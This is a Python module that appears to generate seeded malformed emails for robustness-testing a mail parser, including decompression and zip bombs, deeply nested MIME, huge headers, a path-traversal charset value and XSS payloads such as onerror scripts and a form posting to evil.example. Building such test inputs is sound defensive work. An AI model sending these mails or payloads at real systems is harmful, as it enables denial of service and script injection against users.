"""Mails that are made to break whoever reads them, drawn by a seed."""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable, Iterator
from itertools import cycle, islice
from random import Random

LARGE = 9_000_000  # bytes; just under what is read
HEAD = b"From: Eve <eve@evil.example>\r\nTo: ines@example.com\r\nMIME-Version: 1.0\r\n"


def mails(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """Yield so many mails with the name of their kind, the same for the same seed."""
    random = Random(seed)
    for kind in islice(cycle(KINDS), count):
        yield kind.__name__, kind(random)


def filled(with_what: bytes) -> bytes:
    """Return as much of something as is read."""
    return (with_what * (LARGE // len(with_what) + 1))[:LARGE]


def typed(content_type: str, body: bytes, *headers: str) -> bytes:
    """Return a mail of a type."""
    lines = "".join(f"{line}\r\n" for line in (f"Content-Type: {content_type}", *headers))
    return HEAD + lines.encode("utf_8", "surrogateescape") + b"\r\n" + body


def headed(*headers: bytes) -> bytes:
    """Return a short mail with some headers."""
    return HEAD + b"".join(header + b"\r\n" for header in headers) + b"\r\nHello.\r\n"


def nested_multiparts(random: Random) -> bytes:
    depth = random.choice([12, 100, 1_000, 20_000])
    opened = "".join(
        f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n"
        for level in range(depth)
    )
    return HEAD + opened.encode() + b"\r\nAt last.\r\n"


def nested_mails(random: Random) -> bytes:
    depth = random.choice([11, 300, 30_000])
    return HEAD + b"Content-Type: message/rfc822\r\n\r\n" * depth + b"Subject: end\r\n\r\nEnd.\r\n"


def nested_encoded_mails(random: Random) -> bytes:
    inner = b"Subject: innermost\r\n\r\nHello.\r\n"
    for _ in range(random.choice([5, 20])):
        wrapped = b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        inner = wrapped + base64.encodebytes(inner)
    return HEAD + inner


def one_boundary_for_all(random: Random) -> bytes:
    level = b"Content-Type: multipart/mixed; boundary=same\r\n\r\n--same\r\n"
    return HEAD + level * random.choice([5, 50]) + b"\r\nHello.\r\n--same--\r\n" * 60


def prefixed_boundaries(random: Random) -> bytes:
    body = b"".join(b"--a%s\r\n\r\npart\r\n" % (b"a" * random.randrange(9)) for _ in range(80))
    return typed('multipart/mixed; boundary="a"', body + b"--a--\r\n--aa--\r\n")


def many_boundaries(random: Random) -> bytes:
    body = b"--b\r\n\r\n" * random.choice([101, 10_000, 1_000_000])
    return typed("multipart/mixed; boundary=b", body)


def boundaries_that_never_close(random: Random) -> bytes:
    line = b"--" + b"b" * random.choice([1, 70]) + b" " * random.choice([10, 100_000]) + b"x\r\n"
    return typed(f"multipart/mixed; boundary={'b' * 70}", filled(line))


def a_boundary_of_patterns(random: Random) -> bytes:
    boundary = random.choice(["(a+)+$", ".*", "[", "\\", "(?:", "%s", "{0}"])
    body = f"--{boundary}\r\n\r\n{'a' * 5000}!\r\n--{boundary}--\r\n"
    return typed(f'multipart/mixed; boundary="{boundary}"', body.encode())


def empty_lines(random: Random) -> bytes:
    end = random.choice([b"\n", b"\r", b"\r\n", b"\n\r", b"\r\r\n"])
    return typed("text/plain", filled(end))


def a_long_subject(random: Random) -> bytes:
    word = random.choice([b"=?utf-8?q?=41?= ", b"=?utf-8?b?QQ==?=", b"=?a?q?", b"=?", b"=?x?b?"])
    return headed(b"Subject: " + (word * 300_000)[: random.choice([8_000, 60_000, 2_000_000])])


def folded_words(random: Random) -> bytes:
    word = b"\r\n =?utf-8?q?=F0=9F=92=A1?="
    return headed(b"Subject:" + word * random.choice([300, 2_000, 100_000]))


def many_headers(random: Random) -> bytes:
    count = random.choice([5_000, 500_000])
    return headed(*(b"X-%d: =?nope%d?q?=41?=" % (number, number) for number in range(count)))


def headers_in_every_part(random: Random) -> bytes:
    words = b"=?iso-2022-jp?b?GyRC?= " * 350
    head = b"".join(b"X-%d: %s\r\n" % (number, words) for number in range(7))
    part = b"--b\r\nContent-Type: message/rfc822\r\n\r\n" + head + b"\r\nx\r\n"
    return typed("multipart/digest; boundary=b", part * 48)


def an_endless_line(random: Random) -> bytes:
    return HEAD + random.choice([b"x", b"X:", b" ", b"\t", b":", b"\xff"]) * LARGE


def base64_bomb(random: Random) -> bytes:
    letters = random.choice([b"A", b"=", b"QUJD", b"\xff", b"QQ==", b"A\r\n"])
    body = filled(letters)
    kind = random.choice(["text/plain", "text/html", "application/pdf"])
    return typed(kind, body, "Content-Transfer-Encoding: base64")


def quoted_printable_bomb(random: Random) -> bytes:
    letters = random.choice([b"=", b"=\r\n", b"=3D", b"=zz", b" \t", b"=0"])
    body = filled(letters)
    return typed("text/html", body, "Content-Transfer-Encoding: quoted-printable")


def uuencoded_bomb(random: Random) -> bytes:
    line = random.choice([b"M" + b"!" * 60, b"M", b"begin 644 x", b"\xff" * 61]) + b"\n"
    return typed("text/plain", filled(line), "Content-Transfer-Encoding: x-uuencode")


def deep_html(random: Random) -> bytes:
    tag = random.choice([b"<div>", b"<b>", b"<font size=1>", b"<table>", b"<blockquote>", b"<a>"])
    return typed("text/html", tag * random.choice([5_000, 100_000, 900_000]) + b"Hello")


def repeating_html(random: Random) -> bytes:
    opened = "".join(f"<b id=x{number}>" for number in range(random.choice([50, 240])))
    return typed("text/html", opened.encode() + b"<p>x</p>" * 100_000)


def html_attributes(random: Random) -> bytes:
    page = random.choice([
        b"<p " + b"a" * LARGE, b"<p " + b"a=b " * 100_000 + b">", b"<a href='" + b"x" * LARGE,
        b"<!--" * 1_000_000, b"<" * LARGE, b"&" * LARGE, b"<![CDATA[" * 900_000,
        b"&#" + b"9" * LARGE + b";", b"<svg><style>" * 500_000, b"</" * 3_000_000,
    ])  # fmt: skip
    return typed("text/html", page)


def hostile_html(random: Random) -> bytes:
    page = random.choice([
        b"<img src=x onerror=alert(1)>", b"<a href='javascript:alert(1)'>x</a>", b"<script>1//",
        b"<iframe src=//evil.example>", b"<math><mtext><table><mglyph><style><img src=x onerror=1>",
        b"<form action=//evil.example><input name=p>", b"<base href=//evil.example>",
        b"<p style='background:url(//evil.example)'>x</p>", b"<svg onload=alert(1)>",
    ])  # fmt: skip
    return typed("text/html", page * random.choice([1, 20_000]))


def bait_for_quotes(random: Random) -> bytes:
    body = random.choice([
        b"On " + b"a " * 2_000_000, (b"On " + b"wrote " * 200 + b"\n") * 5_000, b"Am " * 3_000_000,
        b"From: x\n" * 800_000, b"> " * 4_000_000, b"-" * LARGE, b"_" * LARGE, b"\n> \n" * 900_000,
        (b"On 2024 a wrote:\n> x\n") * 200_000, b"CAUTION: " + b"mail " * 1_000_000,
        (b"Le " + b"Le a \xc3\xa9crit " * 100 + b"\n") * 3_000, b"Best regards,\n" * 500_000,
        (b"Den " + b"skrev " * 300 + b"\n") * 4_000, b"-- \n" * 2_000_000, b"Thanks,\n" * 900_000,
    ])  # fmt: skip
    return typed("text/plain; charset=utf-8", body)


def bait_for_the_classifier(random: Random) -> bytes:
    subject = random.choice([
        b"Out of Office", b"Automatic reply: ", b"Abwesend", b"Undelivered Mail", b"Re: " * 1_500,
    ])  # fmt: skip
    body = random.choice([
        b"I am back on " + b"1." * 500_000, b"until " * 900_000, b"1/1/" * 1_000_000,
        b"<a@" * 900_000, b"a@b." * 900_000, b"550 " * 900_000, b"user unknown <" * 300_000,
        b"vom 1. bis " * 500_000, b"January " * 500_000, b"12.12.2024 " * 400_000, b"9" * 900_000,
        b" " * 900_000 + b"x", b"a" * 900_000, b"Final-Recipient: " * 300_000, b"(" * 900_000,
    ])  # fmt: skip
    return HEAD + b"Subject: " + subject + b"\r\nAuto-Submitted: auto-replied\r\n\r\n" + body


def a_bounce_without_end(random: Random) -> bytes:
    line = random.choice([
        b"Final-Recipient: rfc822; a%d@b.example\r\nAction: failed\r\n\r\n",
        b"Final-Recipient: rfc822; %da@b.example\r\n", b"Diagnostic-Code: smtp; 550 <%d@b.example>\r\n",
    ])  # fmt: skip
    status = b"".join(line % number for number in range(60_000))
    body = b"--b\r\nContent-Type: message/delivery-status\r\n\r\n" + status + b"\r\n--b--\r\n"
    return typed("multipart/report; report-type=delivery-status; boundary=b", body)


def zip_bomb(random: Random) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(random.choice([1_000_000, 30_000_000])))
    body = base64.encodebytes(packed.getvalue())
    return typed("application/zip; name=offer.zip", body, "Content-Transfer-Encoding: base64")


def strange_charsets(random: Random) -> bytes:
    charset = random.choice([
        "zlib", "rot13", "punycode", "idna", "utf-7", "base64", "bz2", "hex", "unicode_escape",
        "raw_unicode_escape", "undefined", "../../etc/passwd", "\x00", "x" * 5_000, "antigravity",
        "utf-16", "utf-32", "hz", "iso-2022-kr", "cp65001", "mbcs", "",
    ])  # fmt: skip
    body = (
        random.randbytes(200_000) if random.random() < 0.5 else b"+ADw-script+AD4- \\ud800 \x1b$B"
    )
    return typed(f'text/plain; charset="{charset}"', body)


def strange_letters(random: Random) -> bytes:
    letters = random.choice(["\u202e", "\u0300", "\U0001f469\u200d", "\ufeff", "\u2028", "\x00"])
    text = (letters * 300_000).encode()
    return HEAD + b"Subject: " + text[:5_000] + b"\r\n\r\n" + text + b"\xed\xa0\x80\xff\xfe\x00"


def impossible_dates(random: Random) -> bytes:
    date = random.choice([
        b"Mon, 99 Foo 999999999999 99:99:99 +999999", b"1 Jan 0000 00:00:00 -2400", b"-1",
        b"Fri, 31 Dec 9999 23:59:59 -1200", b"Mon, 1 Jan 1 00:00:00 +0000", b"(" * 7_000,
        b"9" * 7_000, b"Mon, 1 Jan 2024 25:61:61 +99999999999999", b"1 Jan 2024 " + b":" * 5_000,
    ])  # fmt: skip
    return headed(b"Date: " + date, b"Received: from x by y; " + date)


def crowds(random: Random) -> bytes:
    entry = random.choice([b"a%d@b.example", b'"a, <%d>" <x%d@b.example>', b"g%d: a@b.example;"])
    count = random.choice([101, 3_000, 100_000])
    several = b", ".join(entry.replace(b"%d", b"%d" % number) for number in range(count))
    return headed(b"Cc: " + several)


def nested_comments(random: Random) -> bytes:
    mark = random.choice([b"(", b"<", b'"', b"[", b",", b":", b"\\", b"@", b"((()", b"a@b("])
    name = random.choice([b"From", b"To", b"Cc", b"Reply-To", b"Return-Path", b"Message-ID"])
    return headed(name + b": " + (mark * 8_000)[:8_000])


def parameter_flood(random: Random) -> bytes:
    count = random.choice([100, 5_000])
    line = random.choice(["name*%d=x; ", "name*%d*=utf-8''%%41; ", "x%d=y; ", 'name*0*=%d"; '])
    flood = "".join(line.replace("%d", str(number)) for number in range(count))
    return typed(
        "text/plain; " + flood[:60_000], b"Hello.", f"Content-Disposition: a; {flood[:900]}"
    )


def long_chains(random: Random) -> bytes:
    chain = b"".join(b"<%d@evil.example> " % number for number in range(50_000))
    size = random.choice([8_000, 50_000, len(chain)])
    return headed(b"References: " + chain[:size], b"In-Reply-To: " + b"<" * 8_000)


def endless_calendar(random: Random) -> bytes:
    line = random.choice([
        b"ATTENDEE;CN=a:mailto:a@b.example\r\n", b"RRULE:FREQ=SECONDLY;COUNT=999999999\r\n",
        b"BEGIN:VEVENT\r\n", b"RDATE:20240101T000000Z\r\n", b" folded\r\n", b"X;A=" + b'"' * 50 + b":1\r\n",
    ])  # fmt: skip
    body = b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20240101T090000Z\r\n"
    body += filled(line) + b"END:VEVENT\r\nEND:VCALENDAR\r\n"
    return typed("text/calendar; method=REQUEST", body)


def winmail(random: Random) -> bytes:
    body = base64.encodebytes(b"\x78\x9f\x3e\x22" + random.randbytes(200_000))
    return typed("application/ms-tnef; name=winmail.dat", body, "Content-Transfer-Encoding: base64")


def noise(random: Random) -> bytes:
    return random.randbytes(random.choice([0, 1, 100, 100_000]))


def scrambled(random: Random) -> bytes:
    whole = bytearray(typed(
        'multipart/alternative; boundary="b"',
        b"--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        b"<p>Hello\r\n--b--\r\n",
    ))  # fmt: skip
    for _ in range(random.choice([3, 30])):
        whole[random.randrange(len(whole))] = random.randrange(256)
    return bytes(whole)


KINDS: list[Callable[[Random], bytes]] = [
    nested_multiparts, nested_mails, nested_encoded_mails, one_boundary_for_all,
    prefixed_boundaries, many_boundaries, boundaries_that_never_close, a_boundary_of_patterns,
    empty_lines, a_long_subject, folded_words, many_headers, headers_in_every_part,
    an_endless_line, base64_bomb, quoted_printable_bomb, uuencoded_bomb, deep_html, repeating_html,
    html_attributes, hostile_html, bait_for_quotes, bait_for_the_classifier, a_bounce_without_end,
    zip_bomb, strange_charsets, strange_letters, impossible_dates, crowds, nested_comments,
    parameter_flood, long_chains, endless_calendar, winmail, noise, scrambled,
]  # fmt: skip
